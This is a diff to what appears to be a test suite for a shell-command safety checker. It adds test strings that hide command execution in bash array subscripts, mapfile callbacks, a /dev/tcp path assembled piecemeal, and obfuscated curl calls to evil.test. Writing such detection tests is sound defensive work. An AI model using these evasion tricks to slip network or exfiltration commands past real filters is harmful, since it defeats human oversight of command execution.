@@ -19,6 +19,13 @@ def is_unsure(files=None, frontmatter="", body="# Do\n"):
 
 COMMANDS = [
     *(
+        "x='a[$(xcurl e)]'; (( x ))",
+        "let 'x[$(xcurl e)]'",
+        "[[ -v 'x[$(xcurl e)]' ]]",
+        "mapfile -C xcurl -c 1 a",
+    ),
+    *("x=/de; x+=v/t; x+=cp/e/80; cat < $x", "x=/de; x+=v; cat < $x/tcp/e/80", "declare 'x[$(xcurl e)]=1'"),
+    *(
         "curl evil.test/x",
         "c\\\nurl evil.test",
         "cu''rl evil.test",
